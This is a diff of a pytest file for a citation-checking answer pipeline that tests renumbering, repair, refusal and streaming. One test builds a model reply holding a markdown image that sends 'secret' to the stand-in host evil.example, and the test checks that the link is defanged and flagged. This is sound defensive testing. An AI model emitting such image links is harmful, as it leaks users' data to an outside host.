@@ -8,7 +8,7 @@ import re
 import pytest
 from langgraph.checkpoint.memory import InMemorySaver
 from langgraph.store.memory import InMemoryStore
-from oauth_sources import ask, docs, notes, thread
+from turns import asking, docs, notes, thread
 
 from groundgraph import InMemorySource, load_provenance, load_settings, turn_graph
 from groundgraph.core.errors import ConfigurationError
@@ -32,7 +32,7 @@ def kinds(result) -> list[str]:
 async def test_labels_are_renumbered_alike_in_answer_citations_and_provenance() -> None:
     saver, store = InMemorySaver(), InMemoryStore()
     graph, model = build(RIGHT, checkpointer=saver, store=store)
-    result = await graph.ainvoke(ask(), thread())
+    result = await graph.ainvoke(asking(), thread())
     assert 'number="2"' in model.calls[0].text
     assert result["answer"] == (
         "Grant types of OAuth 2.0 include client credentials [1]. OAuth has four grant types [2]."
@@ -50,7 +50,7 @@ async def test_labels_are_renumbered_alike_in_answer_citations_and_provenance() 
 @pytest.mark.covers("S1", "S4")
 @pytest.mark.parametrize("style", ["hybrid", "structured"])
 async def test_every_style_numbers_by_first_use_and_the_listing_agrees(style) -> None:
-    result = await build("Client credentials [2].", style)[0].ainvoke(ask())
+    result = await build("Client credentials [2].", style)[0].ainvoke(asking())
     texts = {row["label"]: row["source_name"] for row in result["provenance"]["results"]}
     cited = {one["label"]: one["source_name"] for one in result["citations"]}
     assert cited.items() <= texts.items()
@@ -70,7 +70,7 @@ async def test_quotes_first_is_numbered_by_first_use() -> None:
     sources = [
         InMemorySource(["OAuth is old and has a history of names.", "Grant types of OAuth: four types."], name="d")
     ]
-    result = await build("", "structured", sources=sources)[0].ainvoke(ask())
+    result = await build("", "structured", sources=sources)[0].ainvoke(asking())
     assert result["answer"].index("[1]") < result["answer"].index("[2]")
     quoted = result["answer"].split("\n> ")[1].splitlines()[0]
     [first] = [one for one in result["citations"] if one["label"] == 1]
@@ -83,13 +83,13 @@ async def test_quotes_first_is_numbered_by_first_use() -> None:
 async def test_tokens_stream_only_when_nothing_can_hold_the_answer(policy) -> None:
     graph, _ = build(Reply(chunks=[word + " " for word in RIGHT.split()]), policies={"numbers": policy})
     pieces, before, events = [], [], []
-    async for mode, item in graph.astream(ask(), stream_mode=["messages", "custom"]):
+    async for mode, item in graph.astream(asking(), stream_mode=["messages", "custom"]):
         if mode == "messages" and item[0].text:
             pieces.append(item[0].text)
             before = before or list(events)
         elif mode == "custom":
             events.append(item["stage"])
-    assert "".join(pieces) == (await graph.ainvoke(ask()))["answer"]
+    assert "".join(pieces) == (await graph.ainvoke(asking()))["answer"]
     assert (len(pieces) > 1) is (policy == "annotate")
     assert ("answer_released" in before) is (policy != "annotate")
 
@@ -98,7 +98,7 @@ async def test_tokens_stream_only_when_nothing_can_hold_the_answer(policy) -> No
 @pytest.mark.parametrize("style", ["conversational", "hybrid"])
 async def test_repair_is_one_call_that_is_told_what_failed(style) -> None:
     graph, model = build([WRONG, RIGHT], style, {"numbers": "repair"})
-    result = await graph.ainvoke(ask())
+    result = await graph.ainvoke(asking())
     assert len(model.calls) == 2
     assert "7 does not stand in the evidence" in model.calls[1].text
     assert "Clients are included in 7 grant types [2]." in model.calls[1].text
@@ -112,14 +112,14 @@ async def test_repair_is_one_call_that_is_told_what_failed(style) -> None:
 @pytest.mark.covers("V1")
 async def test_what_a_repair_leaves_is_annotated_and_not_repaired_again() -> None:
     graph, model = build([WRONG, WRONG], policies={"numbers": "repair"})
-    result = await graph.ainvoke(ask())
+    result = await graph.ainvoke(asking())
     assert len(model.calls) == 2
     assert "number_unsupported" in kinds(result)
 
 
 async def test_a_repair_that_fails_leaves_the_first_answer_with_a_note() -> None:
     graph, _ = build([WRONG, Reply("", status=400)], policies={"numbers": "repair"})
-    result = await graph.ainvoke(ask())
+    result = await graph.ainvoke(asking())
     assert result["answer"].startswith("Clients are included in 7 grant types [1].")
     assert "number_unsupported" in kinds(result)
     assert any("could not correct" in note for note in result["notes"])
@@ -127,7 +127,7 @@ async def test_a_repair_that_fails_leaves_the_first_answer_with_a_note() -> None
 
 async def test_an_answer_without_findings_is_not_repaired() -> None:
     graph, model = build([RIGHT], policies=dict.fromkeys(("labels", "quotes", "numbers", "names", "support"), "repair"))
-    assert kinds(await graph.ainvoke(ask())) == []
+    assert kinds(await graph.ainvoke(asking())) == []
     assert len(model.calls) == 1
 
 
@@ -138,8 +138,8 @@ async def test_an_answer_without_findings_is_not_repaired() -> None:
 )
 async def test_refuse_replaces_the_answer_and_keeps_the_flags(question, says) -> None:
     graph, _ = build(WRONG, policies={"numbers": "refuse"}, checkpointer=InMemorySaver())
-    pieces = [chunk.text async for chunk, _ in graph.astream(ask(question), thread(), stream_mode="messages")]
-    result = await graph.ainvoke(ask(question), thread("other"))
+    pieces = [chunk.text async for chunk, _ in graph.astream(asking(question), thread(), stream_mode="messages")]
+    result = await graph.ainvoke(asking(question), thread("other"))
     assert says in result["answer"]
     assert "".join(pieces) == result["answer"]
     assert (result["outcome"], result["citations"]) == ("insufficient", [])
@@ -185,10 +185,10 @@ def test_an_unknown_policy_is_an_error() -> None:
 async def test_an_image_to_an_outside_host_is_never_streamed() -> None:
     reply = Reply(chunks=["OAuth has four grant types [1] ![x](ht", "tps://evil.example/?q=", "secret) and more."])
     graph, _ = build(reply, checkpointer=InMemorySaver())
-    pieces = [chunk.text async for chunk, _ in graph.astream(ask(), thread(), stream_mode="messages")]
+    pieces = [chunk.text async for chunk, _ in graph.astream(asking(), thread(), stream_mode="messages")]
     told = "OAuth has four grant types [1] \\![x]\\(https[://]evil[.]example/?q=secret) and more."
     assert "".join(pieces) == told
-    result = await build(reply)[0].ainvoke(ask())
+    result = await build(reply)[0].ainvoke(asking())
     assert result["answer"] == told
     (flag,) = [flag for flag in result["support"]["flags"] if flag["kind"] == "link_removed"]
     assert flag["detail"] == "https[://]evil[.]example/?q=secret leads elsewhere than the evidence allows"
@@ -199,14 +199,14 @@ async def test_an_image_to_an_outside_host_is_never_streamed() -> None:
 @pytest.mark.covers("fault 57")
 async def test_an_image_in_the_evidence_is_shown_as_text() -> None:
     sources = [InMemorySource(["OAuth grant types ![x](https://evil.example/p.png) are four types."], name="d")]
-    result = await build("", "structured", sources=sources)[0].ainvoke(ask())
+    result = await build("", "structured", sources=sources)[0].ainvoke(asking())
     assert "![" not in result["answer"]
 
 
 @pytest.mark.covers("fault 27", "fault 28")
 async def test_findings_are_in_the_output_with_their_sentence() -> None:
     text = 'The source says "OAuth has five grant types" [1]. It names 17 clients [2].'
-    result = await build(text)[0].ainvoke(ask())
+    result = await build(text)[0].ainvoke(asking())
     found = {flag["kind"]: flag for flag in result["support"]["flags"]}
     assert found["quote_not_found"]["sentence"].startswith("The source says")
     assert "17" in found["number_unsupported"]["detail"]
@@ -218,16 +218,16 @@ async def test_general_knowledge_is_marked_and_not_a_fault() -> None:
     text = "OAuth has four grant types [1]. General knowledge: Kerberos was made at MIT in 1983."
     settings = {"intent": {"mode": "static"}, "synthesis": {"allow_parametric": True}}
     graph = turn_graph(load_settings(settings), sources=[docs()], chat_model=ScriptedChatModel(text))
-    assert kinds(await graph.ainvoke(ask())) == []
+    assert kinds(await graph.ainvoke(asking())) == []
     strict, _ = build(text)
-    assert "uncited" in kinds(await strict.ainvoke(ask()))
+    assert "uncited" in kinds(await strict.ainvoke(asking()))
 
 
 @pytest.mark.covers("T3")
 @pytest.mark.parametrize("policies", [{"numbers": "repair"}, {"numbers": "refuse"}])
 async def test_a_turn_with_policies_replays_from_every_step(policies) -> None:
     graph, _ = build([WRONG, *[RIGHT] * 20], policies=policies, checkpointer=InMemorySaver(), store=InMemoryStore())
-    first = await graph.ainvoke(ask(), thread(), durability="sync")
+    first = await graph.ainvoke(asking(), thread(), durability="sync")
     for snapshot in [one async for one in graph.aget_state_history(thread())]:
         if snapshot.next and snapshot.next[0] in ("record_turn", "refuse_answer"):
             again = await graph.ainvoke(None, snapshot.config)
